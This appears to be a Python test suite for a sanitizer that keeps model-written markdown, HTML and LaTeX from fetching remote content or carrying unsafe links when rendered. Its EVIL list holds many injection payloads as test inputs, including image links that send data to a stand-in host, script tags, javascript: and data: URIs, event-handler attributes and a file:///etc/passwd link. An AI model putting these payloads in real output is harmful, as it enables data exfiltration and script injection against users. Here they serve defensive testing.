"""What a model writes fetches nothing when it is shown, and stays readable."""

from __future__ import annotations

import re
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from server.api.answers.sanitize import MAX_LOOKAHEAD, TextSanitizer, sanitize_text

EVIL = [
    "![x](https://evil.example/?d=secret)",
    "![x] (https://evil.example) ![y](<https://evil.example>)",
    "![x][r]\n\n[r]: https://evil.example/a.png",
    "![r]\n\n[r]: https://evil.example/a.png",
    "[![x](https://evil.example/a.png)](https://evil.example)",
    "![a![b](https://evil.example/1)](https://evil.example/2)",
    "\\\\![x](https://evil.example)",
    "!\\\n![x](https://evil.example)",
    "!!![x](https://evil.example)",
    "> ![x](https://evil.example)\n\n- ![y](//evil.example)",
    "<img src=https://evil.example>",
    "<IMG/src='https://evil.example'>",
    "<img\nsrc=x>",
    "\\<img src=x>",
    "<<img src=x>",
    "<svg><image href='https://evil.example'/></svg>",
    "<div style='background:url(https://evil.example)'>",
    "<style>@import 'https://evil.example'</style>",
    "<video poster=x><source src=x></video>",
    "<iframe src=x>",
    "<script>fetch('//evil.example')</script>",
    "[x](//evil.example) [x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( \n javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](<java\tscript:alert(1)>)",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x) [y](file:///etc/passwd) [z](ftp://evil.example)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n[r]:\n  <javascript:alert(1)>",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<foo onclick=alert(1)>",
    "<x-y>",
    "<i, onclick=alert(1)>",
    "<b onmouseover=alert(1)>",
    "<br onload=alert(1)/>",
    "<br/onload=alert(1)>",
    "<a>x</a>",
    "</div>",
    "</p onclick=x>",
    "</ p>",
    "<!-- hidden -->",
    "<!DOCTYPE html>",
    "<![CDATA[x]]>",
    "<?php x ?>",
    "<details open>",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\url{https://evil.example}$",
    "$$\\includegraphics[width=1em]{https://evil.example/?d=secret}$$",
    "\\(\\htmlData{x=y}{z}\\) \\htmlStyle{a}{b} \\htmlId{a}{b} \\htmlClass{a}{b}",
    "\\\\href{x}{y} \\let\\x=\\href \\require{html}\\style{background:url(x)}{y} \\class{a}{b} \\cssId{a}{b}",
]
GOOD = [
    "PSMB10 is on 16q22.1 [1], p < 0.05 and p<0.05; see [2][3]. Great! [sic]",
    "\n\nReferences:\n[1] [NCBI Gene 5699](https://www.ncbi.nlm.nih.gov/gene/5699)",
    "<https://pubmed.ncbi.nlm.nih.gov/1> and [a](http://x.example 'title') and [r]: https://x.example",
    "H<sub>2</sub>O, <B>x</B>, a<br>b<br/>c<br />, p<0.05, 5'<-3', <10 kb, A -> B, -->, <- x, a <= b, a < b and c > d",
    r"$\alpha \hrulefill \frac{1}{2} \text{p} \urcorner \classify$ \( \[ \, \_ C:\Users",
    "f[i](x) != g(x); array[0](1/2); !important",
    "[see below](#methods) and [a](/gene) and [note]: text follows",
]
_PIECES = st.lists(
    st.one_of(
        st.sampled_from(list("![]()<>: \n/\\&bp?")),
        st.sampled_from(
            ["img", "javascript", "http", "br", "sub", "href", "url", "html", "include", "graphics", "alpha"]
        ),
        st.sampled_from(["x-y", " onclick=x"]),
        st.text(max_size=5),
    )
).map("".join)


def _shown(text: str) -> str:
    return str(MarkdownIt("commonmark", {"html": True}).render(text))


@pytest.mark.parametrize("text", EVIL)
def test_nothing_is_fetched_and_no_link_leads_elsewhere(text: str) -> None:
    """As CommonMark with HTML shows it; the words themselves are all there."""
    shown = _shown(sanitize_text(text)).lower()

    assert not [tag for tag in ("<img", "<image", "<div", "<style", "<video", "<iframe", "<script") if tag in shown]
    plain = re.sub(r"</?(?:p|li|ul|ol|blockquote|em|strong|code|pre|a|br|h[1-6])(?: [^<>]*)?>", "", shown)
    assert "<" not in re.sub(r"<br( /)?>", "", plain), plain
    assert not re.search(r"\\(?:href|url|includegraphics|html|class|cssid|style|require)", sanitize_text(text), re.I)
    assert 'href="' not in shown or 'href="http' in shown
    assert not [
        bad
        for bad in ('href="javascript', 'href="data', 'href="file', 'href="ftp', 'href="vb', 'href="//')
        if bad in shown
    ]
    assert sanitize_text(text).replace(" ", "") == text.replace(" ", "")


@pytest.mark.parametrize("text", GOOD)
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    """Citations, comparisons, web links, formatting without attributes."""
    assert sanitize_text(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a <b and c", "a < b and c"),
        ("n<i, x<y; and a <c and d> e", "n< i, x< y; and a < c and d> e"),
        ("I </3 you <!important", "I < /3 you < !important"),
        (r"\href{x}{y} and \alpha", r"\ href{x}{y} and \alpha"),
    ],
)
def test_comparisons_keep_their_meaning(text: str, shown: str) -> None:
    """One space, where a reader of HTML could see an element."""
    assert sanitize_text(text) == shown


@given(_PIECES)
def test_nothing_but_formatting_is_an_element(text: str) -> None:
    """As CommonMark reads it, and as a browser does: each ``<`` before a name, a slash, ``!`` or ``?``."""
    safe = sanitize_text(text)
    allowed = re.compile(r"</?(?:b|br|sub|p|s|i|u|q|h[1-6])>|<br ?/>|<https?:", re.I)

    for found in re.finditer(r"<[A-Za-z/!?]", safe):
        assert allowed.match(safe, found.start()), safe[found.start() :]
    assert not re.search(r"\\(?:href|url|includegraphics)(?![A-Za-z@])|\\html", safe, re.I)


@given(_PIECES)
def test_shown_text_has_no_image_and_no_foreign_link(text: str) -> None:
    """Whatever is written. A second pass has nothing more to do."""
    tokens = MarkdownIt("commonmark", {"html": True, "linkify": False}).parse(sanitize_text(text))
    inline = [child for token in tokens for child in token.children or ()]

    assert not [child for child in inline if child.type == "image"]
    schemes = {
        str(child.attrs["href"]).split(":")[0].lower() for child in inline if ":" in str(child.attrs.get("href"))
    }
    assert all(scheme in {"http", "https"} or set(scheme) & set("/?#%") for scheme in schemes)
    assert sanitize_text(sanitize_text(text)) == sanitize_text(text)


@given(_PIECES, st.lists(st.integers(0, 200)))
def test_how_it_is_cut_makes_no_difference_and_little_is_held(text: str, cuts: list[int]) -> None:
    """A stream gives what the whole gives, never more than ``MAX_LOOKAHEAD`` characters late."""
    places = sorted({0, len(text), *(cut for cut in cuts if cut < len(text))})
    stream, given_so_far = TextSanitizer(), ""
    for start, end in pairwise(places):
        given_so_far += stream.feed(text[start:end])
        assert len(given_so_far) >= end - MAX_LOOKAHEAD
    assert given_so_far + stream.flush() == sanitize_text(text)


@given(_PIECES)
def test_places_move_with_the_text(text: str) -> None:
    """Each character is where ``place`` says."""
    stream = TextSanitizer()
    shown = stream.feed(text) + stream.flush()

    assert [shown[stream.place(i)] for i in range(len(text))] == list(text)


@pytest.mark.parametrize(
    ("first", "second"),
    [
        ("!", "[x](u)"),
        ("]", "(javascript:x)"),
        ("<", "img src=x>"),
        ("]", ":x"),
        ("<", "/svg>"),
        ("<", "!--"),
        ("\\", "href{x}"),
    ],
)
def test_a_construct_over_a_flush_is_parted(first: str, second: str) -> None:
    """What was shown cannot be taken back, so the space comes before what follows."""
    stream = TextSanitizer()
    shown = stream.feed(first) + stream.flush() + stream.feed(second) + stream.flush()

    assert shown == f"{first} {second}"
